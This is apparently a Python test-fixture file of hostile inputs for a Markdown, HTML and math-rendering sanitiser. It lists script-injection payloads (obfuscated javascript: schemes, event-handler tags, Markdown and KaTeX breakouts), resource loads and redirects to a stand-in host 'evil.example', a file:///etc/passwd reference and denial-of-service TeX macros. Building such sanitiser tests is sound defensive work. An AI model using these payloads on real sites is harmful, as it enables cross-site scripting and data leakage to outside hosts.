"""Texts that try to run a script, to ask another server, or to lead somewhere that is no web page."""

OUT = "https://evil.example"
RUN = "window.hasRun=1"
SCHEMES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"javascript&colon;{RUN}", f"java\tscript:{RUN}", f"java&#9;script:{RUN}",
    f"java&#10;script:{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}", f"javascript\\:{RUN}", f"\x01javascript:{RUN}", f"&#1;javascript:{RUN}",
    f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFzUnVuPTE8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd", "blob:https://evil.example/1", "//evil.example/x", "\\\\evil.example\\x", "/api/session", "ftp://evil.example", "ws://evil.example",
    f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", f"jar:javascript:{RUN}!/", "about:blank", "intent://x#Intent;end", f"javascript://%0a{RUN}", f"\u202ejavascript:{RUN}",
    f"java\u200bscript:{RUN}", "https:evil", "http://", "https://a b",
]
HTML = [
    f"<script>{RUN}</script>", f"<script src={OUT}/x.js></script>", f"<img src=x onerror={RUN}>", f"<img src={OUT}/p.png>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<body onload={RUN}>", f"<a href=javascript:{RUN}>a</a>", f"<style>@import '{OUT}/x.css'</style>",
    f"<link rel=stylesheet href={OUT}/x.css>", f"<base href={OUT}>", f"<meta http-equiv=refresh content='0;url={OUT}'>", f"<form action={OUT}><input autofocus onfocus={RUN}></form>", f"<object data={OUT}></object>",
    f"<embed src={OUT}>", f"<video src={OUT}/v onerror={RUN}></video>", f"<details open ontoggle={RUN}>", f"<math><mtext><script>{RUN}</script></mtext></math>", f"<!--><script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<a\nhref='javascript:{RUN}'>x</a>", f"<<script>{RUN}//<</script>", "<br onclick=alert(1)>", f"<x-y onclick={RUN} style=background:url({OUT})>",
]
PLACES = [
    f'[a]({OUT}/"onmouseover="{RUN})', f"[a]({OUT} \"t\" onclick={RUN})", f"[a]({OUT} '\"><script>{RUN}</script>')", f"![a]({OUT}/p.png)", f"![a]({OUT}/p.png \"x\")", f"[![a]({OUT}/1)]({OUT}/2)", f"![\"onerror=\"{RUN}]({OUT}/x)",
    f"![a][p]\n\n[p]: {OUT}/p.png", f"![a](//evil.example/p.png)", "![a](/api/session)", "![a](api/files/../session)", f"![a](data:image/svg+xml;base64,PHN2Zy8+)", f"![a](javascript:{RUN})", f"![a](http://127.0.0.1:1/p.png)",
    f"```\"onclick=\"{RUN}\nx\n```", f"```<script>{RUN}</script>\nx\n```", f"```js{{onclick={RUN}}}\n</code></pre><script>{RUN}</script>\n```", f"```__proto__\nx\n```", f"```constructor\nx\n```",
    f"| <img src=x onerror={RUN}> |\n|---|\n| [a](javascript:{RUN}) |", f"| a |\n|:-\"onclick=\"-:|\n", f"| ![a]({OUT}/t.png) |\n|---|\n| b |",
    f"[^<script>]: <script>{RUN}</script>\n\nx[^<script>]", f"x[^1]\n\n[^1]: ![a]({OUT}/f.png)", f"x[^\"onclick=\"{RUN}]\n\n[^\"onclick=\"{RUN}]: y",
    f"$\\href{{javascript:{RUN}}}{{x}}$", f"$\\url{{javascript:{RUN}}}$", f"$\\includegraphics{{{OUT}/m.png}}$", f"$$\\htmlStyle{{background:url({OUT})}}{{x}}$$", f"$\\htmlData{{x=y}}{{x}}$", f"$\\htmlId{{answer}}{{x}}$", "$\\text{<script>window.hasRun=1</script>}$",
    "$\\def\\a{\\a\\a}\\a$", "$\\rule{99999em}{99999em}$", "$x\\unknown$", f"\\(\\href{{{OUT}}}{{x}}\\)", "$$" + "\\frac{1}{" * 60 + "}" * 60 + "$$",
    f"<javascript:{RUN}>", f"<data:text/html,x>", f"<{OUT}/\"onclick=\"{RUN}>", f"<a@b.co\"onclick=\"{RUN}>", f"{OUT}/\"onclick=\"{RUN}", f"{OUT}/<script>{RUN}</script>", f"www.evil.example\"onclick={RUN}", f"www.\u202eevil.example",
    f"[a][x]\n\n[x]: javascript:{RUN}", f"[a][x]\n\n[x]: <javascript:{RUN}> \"t\"", f"[x]\n\n[x]: data:text/html,<script>{RUN}</script>", "&lt;script&gt;window.hasRun=1&lt;/script&gt;", "&#60;img src=x onerror=window.hasRun=1&#62;", "[a](#\"onclick=\"alert(1))", "[a](#/settings)", "[a](#%00%ff)",
    f"# <script>{RUN}</script>", f"- [x] <img src=x onerror={RUN}>", f"> <script>{RUN}</script>", f"1. ![a]({OUT}/l.png)", f"**<img src=x onerror={RUN}>**", f"`<script>{RUN}</script>`", f"[<img src=x onerror={RUN}>]({OUT})", f"[a\u202e]({OUT}/\u202egpj.exe)", f"https://good.example@evil.example/",
]
PAYLOADS = [f"[a]({scheme})" for scheme in SCHEMES] + [f"![a](<{scheme}>)" for scheme in SCHEMES] + [f"[a](<{scheme}>)" for scheme in SCHEMES[:12]] + HTML + PLACES
